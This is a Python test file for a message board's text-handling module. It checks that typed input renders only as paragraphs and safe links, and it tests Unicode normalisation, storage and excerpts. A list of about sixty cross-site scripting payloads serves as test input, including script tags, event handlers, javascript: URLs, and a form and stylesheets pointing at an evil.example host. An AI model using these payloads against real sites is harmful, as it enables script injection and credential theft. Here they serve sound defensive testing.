"""Whatever is typed comes out as text: kept whole, comparable, and never as markup of its own."""

from __future__ import annotations

import unicodedata
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markupsafe import Markup

from board.text import excerpt, normalise, one_line, paragraphs, stored

REL = 'rel="nofollow ugc noopener"'

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://tracker.example/pixel.gif">',
    "<img/src/onerror=alert(1)>",
    "<img src=`x` onerror=`alert(1)`>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="https://ok.example" onclick="alert(1)">x</a>',
    "<form action=https://evil.example><input name=password></form>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<p style="background:url(https://evil.example)">x</p>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<marquee onstart=alert(1)>",
    "<p id=comments><p class=notice>",
    'https://ok.example/"onmouseover="alert(1)',
    "https://ok.example/'onmouseover='alert(1)",
    'https://ok.example/"><script>alert(1)</script>',
    "https://ok.example/<img src=x onerror=alert(1)>",
    "javascript:alert(1)//https://ok.example/",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "＜script＞alert(1)＜/script＞",
    "{{7*7}}${7*7}<%= 7*7 %>",
    "</p></main></body><script>alert(1)</script>",
    "\u202e<script>alert(1)</script>",
    "]]><img src=x onerror=alert(1)>",
    "<xss style=behavior:url(#default#time2)>",
    "<table background=javascript:alert(1)>",
]


class Elements(HTMLParser):
    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(str(html))
        self.close()

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text += data

    def handle_comment(self, _data):
        self.found.append(("!--", {}))


@pytest.mark.parametrize("payload", HOSTILE)
@pytest.mark.security("4-18", "4-19")
def test_hostile_text_is_shown_as_the_text_it_is(payload):
    shown = Elements(paragraphs(payload))
    assert {tag for tag, _ in shown.found} <= {"p", "br", "a"}
    for tag, attributes in shown.found:
        if tag == "a":
            assert set(attributes) == {"href", "rel"}
            assert attributes["href"].lower().startswith(("http://", "https://"))
        else:
            assert not attributes
    assert shown.text == stored(payload).replace("\n", "")


@given(st.text(max_size=200))
def test_no_text_at_all_becomes_anything_but_paragraphs_and_links(text):
    shown = Elements(paragraphs(text))
    assert {tag for tag, _ in shown.found} <= {"p", "br", "a"}


def test_there_are_enough_hostile_payloads():
    assert len(set(HOSTILE)) >= 40


def test_an_empty_line_parts_paragraphs_and_a_line_end_is_kept():
    typed = "こんにちは\r\n三条です\r\n\r\n \r\nまた"
    assert paragraphs(typed) == Markup("<p>こんにちは<br>三条です</p><p>また</p>")
    assert paragraphs("") == Markup("")
    assert paragraphs("  \n\n ") == Markup("")


def test_ampersands_and_quotes_are_shown_once():
    assert Elements(paragraphs("A & B \"C\" 'D' <E>")).text == "A & B \"C\" 'D' <E>"


@pytest.mark.parametrize(
    ("text", "address"),
    [
        ("「https://example.jp/。」", "https://example.jp/"),
        ("詳しくは（https://example.jp/a?b=1&c=2）へ", "https://example.jp/a?b=1&c=2"),
        ("https://example.jp/をご覧ください", "https://example.jp/"),
        ("https://example.jp、", "https://example.jp"),
        ("https://example.jp/　次の文", "https://example.jp/"),
        ("見て: HTTPS://Example.jp/X.", "HTTPS://Example.jp/X"),
        ("(see https://example.jp/wiki/Kyoto_(city))", "https://example.jp/wiki/Kyoto_(city)"),
        ("[http://example.jp:8080/x]!", "http://example.jp:8080/x"),
        ("https://example.jp/?q=%E6%A1%9C#top,", "https://example.jp/?q=%E6%A1%9C#top"),
        ("http://[2001:db8::1]/", "http://[2001:db8::1]/"),
    ],
)
def test_an_address_ends_where_a_reader_would_end_it(text, address):
    html = paragraphs(text)
    (link,) = [attributes for tag, attributes in Elements(html).found if tag == "a"]
    assert link["href"] == address
    assert REL in html
    assert Elements(html).text == text.strip()


@pytest.mark.parametrize(
    "text",
    ["https://", "https://。", "http://[", "https://bank.example@evil.example/", "xhttps://a.example/", "ftp://a.example/",
     "mailto:a@example.jp", "www.example.jp", "//example.jp", "ｈｔｔｐｓ：／／example.jp"],
)  # fmt: skip
@pytest.mark.security("4-19")
def test_what_is_not_a_plain_web_address_is_no_link(text):
    html = paragraphs(text)
    assert "<a" not in html
    assert Elements(html).text == text


def test_two_addresses_in_one_line_are_two_links():
    assert paragraphs("http://a.example と http://b.example").count("<a ") == 2


def test_a_long_run_of_brackets_is_quick():
    text = "https://a.example/" + ")" * 50_000
    assert Elements(paragraphs(text)).text == text


def test_stored_text_is_composed_trimmed_and_free_of_control_characters():
    typed = "\u3000 か\u3099\x00く\x1b[31m\r\n二行\r三行\t終\x7f\u0085四\u2028五 \n"
    assert stored(typed) == "がく[31m\n二行\n三行\t終\n四\n五"
    assert stored("abc\u202egpj.exe\u2066x") == "abcgpj.exex"
    assert stored("壊\ud800れ") == "壊れ"


def test_stored_text_keeps_width_case_and_emoji_as_typed():
    assert stored("ＡＢＣ ｷﾞﾀｰ 👨‍👩‍👧 ①") == "ＡＢＣ ｷﾞﾀｰ 👨‍👩‍👧 ①"


def test_one_line_has_no_line_ends():
    assert one_line("ギター\r\nBcc: x@example.jp\t\u3000 終") == "ギター Bcc: x@example.jp 終"


@pytest.mark.parametrize(
    ("typed", "compared"),
    [
        ("ＧＵＩＴＡＲ　１，２００円", "guitar 1,200円"),
        ("中古ｷﾞﾀｰ", "中古ギター"),
        ("ギ\u200bタ\u200dー\ufeff", "ギター"),
        ("sof\u00adt\u180e\u2060", "soft"),
        ("葛\U000e0100飾", "葛\U000e0100飾"),
        ("☎\ufe0f", "☎"),
        ("Straße", "strasse"),
        ("か\u200b\u3099", "が"),
        ("壊\ud800れ", "壊れ"),
        (" a \n\t b ", "a b"),
        ("㍿ ㌔", "株式会社 キロ"),
    ],
)
def test_normalised_text_ignores_width_case_and_invisible_signs(typed, compared):
    assert normalise(typed) == compared


@given(st.text(max_size=60))
def test_storing_twice_changes_nothing(text):
    once = stored(text)
    assert stored(once) == once
    assert unicodedata.is_normalized("NFC", once)


def test_an_excerpt_fits_its_limit_and_says_that_it_was_cut():
    assert excerpt("一行目\n二行目", 20) == "一行目 二行目"
    assert excerpt("あ" * 10, 10) == "あ" * 10
    assert excerpt("あ" * 11, 10) == "あ" * 9 + "…"
    assert excerpt("", 10) == ""


def test_an_excerpt_does_not_split_a_letter_from_its_marks():
    assert excerpt("abc\u0323\u0304defg", 5) == "ab…"
